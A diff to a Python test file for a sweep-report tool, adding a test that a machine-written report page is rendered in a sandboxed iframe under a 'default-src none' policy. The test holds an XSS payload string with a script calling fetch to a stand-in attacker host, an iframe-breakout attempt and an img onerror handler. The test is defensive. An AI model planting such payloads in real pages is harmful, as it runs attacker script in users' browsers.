@@ -122,7 +122,31 @@ def test_a_sweep_has_a_page_as_soon_as_it_has_an_answer(config):
     with pytest.raises(SkytrainError, match="the sweep s has no answer yet"):
         report(config, "s")
     store.write("sweeps/s/report/report.html", b"<!DOCTYPE html>the answer")
-    assert report(config, "s").html.endswith("the answer")
+    assert "the answer" in report(config, "s").html
+
+
+def test_a_page_that_a_machine_wrote_is_shown_in_a_frame_that_runs_no_code(config):
+    """Machines write the page of a sweep: whoever opens it must not run what one of them has put there."""
+    store = open_store(config.store)
+    SweepStore(store, "hostile").open({"tokenizer": "x"}, idle=True)
+    attack = "<script>fetch('http://attacker/')</script><iframe srcdoc=\"<b>\"></iframe>'\"></iframe><img src=x onerror=alert(1)>"
+    store.write("sweeps/hostile/report/report.html", attack.encode())
+    page = _Elements(report(config, "hostile").html)
+    assert "script" not in page.found and "img" not in page.found
+    assert page.found["iframe"]["sandbox"] in ("", None) and page.found["iframe"]["srcdoc"] == attack
+    assert "default-src 'none'" in page.found["meta"]["content"]
+
+
+class _Elements(HTMLParser):
+    """The elements of a page by their names, each with the attributes of the last of its kind."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: dict[str, dict[str, str | None]] = {}
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found[tag] = dict(attrs)
 
 
 def test_runs_are_compared_on_one_page_with_their_minima_and_attempts(config, tmp_path, monkeypatch):
